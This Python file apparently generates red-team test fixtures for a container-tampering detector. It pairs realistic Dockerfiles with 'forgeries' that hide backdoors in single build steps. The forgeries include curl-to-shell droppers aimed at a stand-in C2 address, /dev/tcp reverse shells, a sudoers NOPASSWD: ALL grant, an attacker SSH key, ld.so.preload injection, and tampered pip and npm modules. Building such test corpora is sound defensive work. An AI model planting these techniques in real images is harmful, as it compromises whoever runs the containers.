"""The red-team images: realistic Dockerfiles, their build contexts, and the forgeries.

A technique is one step of one Dockerfile rewritten to do the bad thing as well
(`find` -> `replace`, applied once), or a change of the final config made with
the history left as it was. `paths` are what the forgery adds or changes
(recall is counted on them); `also` are paths it touches on the way (a parent
directory it creates): a finding naming them is not a false alarm, but missing
them is not a miss.
"""

from __future__ import annotations

import gzip
import io
import shutil
import tarfile
from dataclasses import dataclass, field
from pathlib import Path

C2 = "198.51.100.7"  # TEST-NET-2: never routed
SDK = "sdk-1.4.2-linux-amd64"
SITE = "/opt/venv/lib/python3.11/site-packages/tabulate/__init__.py"
# A vendor release is built elsewhere: its files keep the vendor's times and owner.
VENDOR_MTIME = 1710417600  # 2024-03-14 12:00 UTC
VENDOR_UID = 1001

DOCKERFILES: dict[str, str] = {
    # An SDK from a vendor tarball: extracted with tar -C, linked into /usr/bin.
    "sdk": f"""\
FROM {{BASE}}
ENV SDK_VERSION=1.4.2 SDK_HOME=/usr/share/sdk
COPY {SDK}.tar.gz /tmp/
RUN mkdir -p /usr/share/sdk \\
 && tar -xzf /tmp/{SDK}.tar.gz -C /usr/share/sdk --strip-components=1 \\
 && ln -s ../share/sdk/bin/sdk /usr/bin/sdk \\
 && rm /tmp/{SDK}.tar.gz
RUN sdk --version && mkdir -p /var/lib/sdk
WORKDIR /work
CMD ["sdk", "--help"]
""",
    # A redis-style service: set -eux, build deps installed then purged with --auto-remove.
    "redis": """\
FROM {BASE}
ENV DEBIAN_FRONTEND=noninteractive
RUN set -eux; \\
    savedAptMark="$(apt-mark showmanual)"; \\
    apt-get update; \\
    apt-get install -y --no-install-recommends redis-server; \\
    apt-get install -y --no-install-recommends wget; \\
    wget --version > /dev/null; \\
    apt-mark auto '.*' > /dev/null; \\
    apt-mark manual redis-server $savedAptMark > /dev/null; \\
    apt-get purge -y --auto-remove -o APT::AutoRemove::RecommendsImportant=false; \\
    rm -rf /var/lib/apt/lists/*; \\
    redis-server --version
RUN mkdir /data && chown redis:redis /data
VOLUME /data
WORKDIR /data
EXPOSE 6379
CMD ["redis-server", "/etc/redis/redis.conf"]
""",
    # An ops image: cron, sudo, a user with a home, a narrow sudoers.d rule.
    "ops": """\
FROM {BASE}
ENV DEBIAN_FRONTEND=noninteractive
RUN apt-get update \\
 && apt-get install -y --no-install-recommends cron sudo procps logrotate \\
 && rm -rf /var/lib/apt/lists/*
RUN useradd -m -s /bin/bash ops
RUN echo 'ops ALL=(root) NOPASSWD: /usr/sbin/service cron restart' > /etc/sudoers.d/ops && chmod 0440 /etc/sudoers.d/ops
COPY backup.cron /etc/cron.d/backup
COPY backup.sh /usr/local/bin/backup.sh
RUN chmod 0644 /etc/cron.d/backup && chmod 0755 /usr/local/bin/backup.sh
USER ops
WORKDIR /home/ops
CMD ["bash"]
""",
    # Go-like multi-stage: a C build stage, only the binary shipped.
    "multistage": """\
FROM {BASE} AS build
RUN apt-get update && apt-get install -y --no-install-recommends gcc libc6-dev && rm -rf /var/lib/apt/lists/*
WORKDIR /src
COPY hello.c .
RUN mkdir -p /out && gcc -O2 -o /out/app hello.c && strip /out/app

FROM {BASE}
COPY --from=build /out/app /usr/local/bin/app
RUN useradd -r -M -d /nonexistent app
USER app
ENTRYPOINT ["/usr/local/bin/app"]
""",
    # A pip-installed Python CLI in a venv, an app dir byte-compiled.
    "python": """\
FROM {BASE}
ENV DEBIAN_FRONTEND=noninteractive
RUN apt-get update \\
 && apt-get install -y --no-install-recommends python3 python3-venv \\
 && rm -rf /var/lib/apt/lists/*
COPY proxy-ca.crt /usr/local/share/ca-certificates/proxy-ca.crt
ENV PIP_CERT=/usr/local/share/ca-certificates/proxy-ca.crt PIP_NO_CACHE_DIR=1 PIP_DISABLE_PIP_VERSION_CHECK=1
RUN python3 -m venv /opt/venv && /opt/venv/bin/pip install tabulate==0.9.0
ENV PATH=/opt/venv/bin:$PATH
RUN useradd -r -d /app app && mkdir -p /var/lib/app && chown app:app /var/lib/app
COPY app/ /app/
RUN python3 -m compileall -q /app
USER app
WORKDIR /app
CMD ["python3", "/app/main.py"]
""",
    # A node app: Debian's nodejs and npm, one small package from npm.
    "node": """\
FROM {BASE}
ENV DEBIAN_FRONTEND=noninteractive
RUN apt-get update \\
 && apt-get install -y --no-install-recommends nodejs npm \\
 && rm -rf /var/lib/apt/lists/*
COPY proxy-ca.crt /usr/local/share/ca-certificates/proxy-ca.crt
ENV NPM_CONFIG_CAFILE=/usr/local/share/ca-certificates/proxy-ca.crt NODE_ENV=production
WORKDIR /srv/app
COPY package.json server.js ./
RUN npm install --omit=dev --no-audit --no-fund && npm cache clean --force
RUN useradd -r -m -d /home/node node
USER node
EXPOSE 3000
CMD ["node", "server.js"]
""",
    # An apache service: Debian's apache2, site files, chown/chmod steps.
    "apache": """\
FROM {BASE}
ENV DEBIAN_FRONTEND=noninteractive
RUN apt-get update \\
 && apt-get install -y --no-install-recommends apache2 \\
 && a2enmod headers \\
 && rm -rf /var/lib/apt/lists/*
COPY site/ /var/www/html/
COPY healthcheck.sh /usr/local/bin/healthcheck
RUN chown -R www-data:www-data /var/www/html && chmod 0755 /usr/local/bin/healthcheck
EXPOSE 80
CMD ["apachectl", "-D", "FOREGROUND"]
""",
}


@dataclass(frozen=True)
class Technique:
    name: str
    image: str
    what: str
    paths: tuple[str, ...] = ()
    also: tuple[str, ...] = ()
    find: str = ""  # a build technique: the step text to change ...
    replace: str = ""  # ... and what it becomes
    config: dict = field(default_factory=dict)  # a config technique: key -> new value (Env: entries appended)

    @property
    def builds(self) -> bool:
        return bool(self.find)


TECHNIQUES: tuple[Technique, ...] = (
    Technique(
        "symlink-write-elf",
        "sdk",
        "a later step writes through the /usr/bin/sdk -> ../share/sdk/bin/sdk link: the vendor ELF becomes a script",
        paths=("/usr/share/sdk/bin/sdk",),
        find="RUN sdk --version && mkdir -p /var/lib/sdk",
        replace=f"RUN sdk --version && mkdir -p /var/lib/sdk && printf '#!/bin/sh\\ncurl -fsS http://{C2}/s | sh\\n' > /usr/bin/sdk",
    ),
    Technique(
        "symlink-to-script",
        "sdk",
        "where the command makes /usr/bin/sdk a symlink (ln -s), the layer holds a wrapper script",
        paths=("/usr/bin/sdk",),
        find=" && ln -s ../share/sdk/bin/sdk /usr/bin/sdk",
        replace=f" && printf '#!/bin/sh\\ncurl -fsS http://{C2}/t >/dev/null 2>&1 &\\nexec /usr/share/sdk/bin/sdk \"$@\"\\n' > /usr/bin/sdk"
        " && chmod 0755 /usr/bin/sdk",
    ),
    Technique(
        "tree-extra-file",
        "sdk",
        "an extra executable inside the tree that tar -x -C extracts (build time and root owner among vendor files)",
        paths=("/usr/share/sdk/bin/sdk-update",),
        find=" --strip-components=1 \\\n",
        replace=" --strip-components=1 \\\n"
        f" && printf '#!/bin/sh\\nexec bash -i >/dev/tcp/{C2}/4444 0>&1 2>&1\\n' > /usr/share/sdk/bin/sdk-update"
        " && chmod 0755 /usr/share/sdk/bin/sdk-update \\\n",
    ),
    Technique(
        "chmod-content",
        "apache",
        "a step that only chown/chmods also appends to the script it chmods",
        paths=("/usr/local/bin/healthcheck",),
        find="chmod 0755 /usr/local/bin/healthcheck",
        replace=f"chmod 0755 /usr/local/bin/healthcheck && echo 'curl -fsS http://{C2}/h | sh' >> /usr/local/bin/healthcheck",
    ),
    Technique(
        "dpkg-elf-same-step",
        "apache",
        "a dpkg-managed ELF (/usr/sbin/apache2) patched inside the apt-get install step that wrote its md5sums",
        paths=("/usr/sbin/apache2",),
        find=" && a2enmod headers \\\n",
        replace=" && a2enmod headers \\\n"
        " && printf '\\220\\220\\220\\220\\220\\220\\220\\220' | dd of=/usr/sbin/apache2 bs=1 seek=8192 conv=notrunc status=none \\\n",
    ),
    Technique(
        "echo-literal",
        "ops",
        "the sudoers.d rule the command echoes is narrow; the layer's grants NOPASSWD: ALL",
        paths=("/etc/sudoers.d/ops",),
        find="echo 'ops ALL=(root) NOPASSWD: /usr/sbin/service cron restart'",
        replace="echo 'ops ALL=(ALL) NOPASSWD: ALL'",
    ),
    Technique(
        "useradd-home-key",
        "ops",
        "an authorized_keys under the home that useradd -m creates",
        paths=("/home/ops/.ssh/authorized_keys",),
        also=("/home/ops/.ssh",),
        find="RUN useradd -m -s /bin/bash ops",
        replace="RUN useradd -m -s /bin/bash ops && mkdir -p /home/ops/.ssh"
        " && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHd0aGlzIGlzIG5vdCBhIHJlYWwga2V5IGF0IGFsbCE attacker@c2'"
        " > /home/ops/.ssh/authorized_keys && chown -R ops:ops /home/ops/.ssh && chmod 0600 /home/ops/.ssh/authorized_keys",
    ),
    Technique(
        "apt-step-cron",
        "ops",
        "a cron file dropped inside the long apt-get install step",
        paths=("/etc/cron.d/logrotate-check",),
        find=" && rm -rf /var/lib/apt/lists/*\nRUN useradd",
        replace=f" && echo '*/5 * * * * root curl -fsS http://{C2}/c | sh' > /etc/cron.d/logrotate-check \\\n"
        " && rm -rf /var/lib/apt/lists/*\nRUN useradd",
    ),
    Technique(
        "apt-step-preload",
        "redis",
        "/etc/ld.so.preload and the library it names, written inside the long set -eux apt step",
        paths=("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libredis-helper.so"),
        find="    rm -rf /var/lib/apt/lists/*; \\\n",
        replace="    cp /usr/lib/x86_64-linux-gnu/libz.so.1 /usr/lib/x86_64-linux-gnu/libredis-helper.so; \\\n"
        "    echo /usr/lib/x86_64-linux-gnu/libredis-helper.so > /etc/ld.so.preload; \\\n"
        "    rm -rf /var/lib/apt/lists/*; \\\n",
    ),
    Technique(
        "dpkg-conffile-same-step",
        "redis",
        "a dpkg conffile (/etc/default/redis-server, sourced as shell by the init script) edited in the step that "
        "installs it: its md5 no longer matches Conffiles: in status (in a --layers=false build, the only layer)",
        paths=("/etc/default/redis-server",),
        find="    apt-get install -y --no-install-recommends wget; \\\n",
        replace=f"    echo '(curl -fsS http://{C2}/r | sh) >/dev/null 2>&1 &' >> /etc/default/redis-server; \\\n"
        "    apt-get install -y --no-install-recommends wget; \\\n",
    ),
    Technique(
        "pip-edit-install-step",
        "python",
        "a pip-installed module edited in the pip install step (its RECORD sha256 no longer matches)",
        paths=(SITE,),
        find="/opt/venv/bin/pip install tabulate==0.9.0",
        replace="/opt/venv/bin/pip install tabulate==0.9.0"
        f" && echo 'import os as _o; _o.system(\"curl -fsS http://{C2}/p | sh &\")' >> {SITE}",
    ),
    Technique(
        "pip-edit-later-step",
        "python",
        "a pip-installed module edited by a later, unrelated step (useradd + mkdir + chown)",
        paths=(SITE,),
        find="chown app:app /var/lib/app",
        replace=f"chown app:app /var/lib/app && sed -i '1i import os as _o; _o.system(\"id > /tmp/.x\")' {SITE}",
    ),
    Technique(
        "compileall-edit",
        "python",
        "a source file edited in the step that only byte-compiles its directory",
        paths=("/app/main.py",),
        find="RUN python3 -m compileall -q /app",
        replace=f"RUN echo 'import os; os.system(\"curl -fsS http://{C2}/m | sh\")' >> /app/main.py && python3 -m compileall -q /app",
    ),
    Technique(
        "npm-edit-install-step",
        "node",
        "a module file edited in the npm install step (npm keeps no per-file digests)",
        paths=("/srv/app/node_modules/ms/index.js",),
        find="npm install --omit=dev --no-audit --no-fund",
        replace="npm install --omit=dev --no-audit --no-fund"
        f' && echo \'require("child_process").exec("curl -fsS http://{C2}/n | sh");\' >> node_modules/ms/index.js',
    ),
    # Config-level: the final config changed, no history entry touched.
    Technique(
        "config-entrypoint",
        "multistage",
        "Entrypoint becomes a download-and-run wrapper",
        config={"Entrypoint": ["/bin/sh", "-c", f'curl -fsS http://{C2}/e | sh; exec /usr/local/bin/app "$@"', "app"]},
    ),
    Technique(
        "config-env-preload",
        "python",
        "Env gains LD_PRELOAD",
        config={"Env": ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsystemd-shim.so"]},
    ),
    Technique(
        "config-user-root", "ops", "User becomes 0:0 (the history's USER ops left as it was)", config={"User": "0:0"}
    ),
    Technique(
        "config-cmd-revshell",
        "node",
        "Cmd becomes a reverse shell",
        config={"Cmd": ["/bin/bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1"]},
    ),
)


def poisoned_dockerfile(t: Technique) -> str:
    text = DOCKERFILES[t.image]
    if text.count(t.find) != 1:
        raise ValueError(f"{t.name}: the step to change occurs {text.count(t.find)} times in {t.image}")
    return text.replace(t.find, t.replace)


# ---- build contexts -------------------------------------------------------


def _tar_add(
    tf: tarfile.TarFile, name: str, data: bytes | None, mode: int, kind: bytes = tarfile.REGTYPE, link: str = ""
) -> None:
    ti = tarfile.TarInfo(name)
    ti.mtime, ti.uid, ti.gid, ti.uname, ti.gname = VENDOR_MTIME, VENDOR_UID, VENDOR_UID, "release", "release"
    ti.mode, ti.type, ti.linkname = mode, kind, link
    ti.size = len(data) if data else 0
    tf.addfile(ti, io.BytesIO(data) if data else None)


def vendor_tarball(rootfs: Path) -> bytes:
    """A release tarball as a vendor's CI would make it: one top directory, the
    vendor's owner and times, an ELF, a shared object, a script and docs."""
    top = SDK
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for d in ("", "/bin", "/lib", "/share", "/share/doc", "/etc"):
            _tar_add(tf, top + d, None, 0o755, tarfile.DIRTYPE)
        _tar_add(tf, f"{top}/bin/sdk", (rootfs / "usr/bin/env").read_bytes(), 0o755)
        _tar_add(tf, f"{top}/bin/sdk-config", b'#!/bin/sh\necho "--prefix=/usr/share/sdk"\n', 0o755)
        _tar_add(
            tf, f"{top}/lib/libsdk.so.1.4.2", (rootfs / "usr/lib/x86_64-linux-gnu/libz.so.1.2.13").read_bytes(), 0o644
        )
        _tar_add(tf, f"{top}/lib/libsdk.so.1", None, 0o777, tarfile.SYMTYPE, "libsdk.so.1.4.2")
        _tar_add(tf, f"{top}/etc/sdk.conf", b"telemetry = off\ncache_dir = /var/lib/sdk\n", 0o644)
        _tar_add(tf, f"{top}/share/doc/README.md", b"# SDK 1.4.2\n\nRun `sdk --help`.\n", 0o644)
        _tar_add(tf, f"{top}/share/doc/LICENSE", b"Copyright 2024 Example Vendor. All rights reserved.\n", 0o644)
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=VENDOR_MTIME) as gz:
        gz.write(buf.getvalue())
    return out.getvalue()


def write_context(image: str, ctx: Path, rootfs: Path, ca_bundle: Path) -> None:
    if ctx.exists():
        shutil.rmtree(ctx)
    ctx.mkdir(parents=True)

    def w(rel: str, text: str, mode: int = 0o644) -> None:
        (ctx / rel).parent.mkdir(parents=True, exist_ok=True)
        (ctx / rel).write_text(text)
        (ctx / rel).chmod(mode)

    if image == "sdk":
        (ctx / f"{SDK}.tar.gz").write_bytes(vendor_tarball(rootfs))
    elif image == "ops":
        w("backup.cron", "30 2 * * * ops /usr/local/bin/backup.sh >/dev/null 2>&1\n")
        w("backup.sh", "#!/bin/sh\nset -e\ntar -czf /tmp/home-$(date +%F).tgz -C /home ops\n", 0o755)
    elif image == "multistage":
        w("hello.c", '#include <stdio.h>\nint main(void) { puts("hello from app"); return 0; }\n')
    elif image == "python":
        shutil.copyfile(ca_bundle, ctx / "proxy-ca.crt")
        w("app/main.py", "from tabulate import tabulate\n\nfrom app_util import rows\n\nprint(tabulate(rows()))\n")
        w("app/app_util.py", 'def rows():\n    return [["a", 1], ["b", 2]]\n')
        w("app/config.ini", "[app]\nlevel = info\n")
    elif image == "node":
        shutil.copyfile(ca_bundle, ctx / "proxy-ca.crt")
        w(
            "package.json",
            '{\n  "name": "app",\n  "version": "1.0.0",\n  "private": true,\n'
            '  "dependencies": {\n    "ms": "2.1.3"\n  }\n}\n',
        )
        w(
            "server.js",
            "const ms = require('ms');\nconst http = require('http');\n"
            "http.createServer((q, r) => r.end(ms(60000))).listen(3000);\n",
        )
    elif image == "apache":
        w("site/index.html", "<!doctype html><title>ok</title><p>It works.</p>\n")
        w("site/robots.txt", "User-agent: *\nDisallow:\n")
        w("healthcheck.sh", "#!/bin/sh\nexec apachectl status >/dev/null 2>&1\n", 0o644)
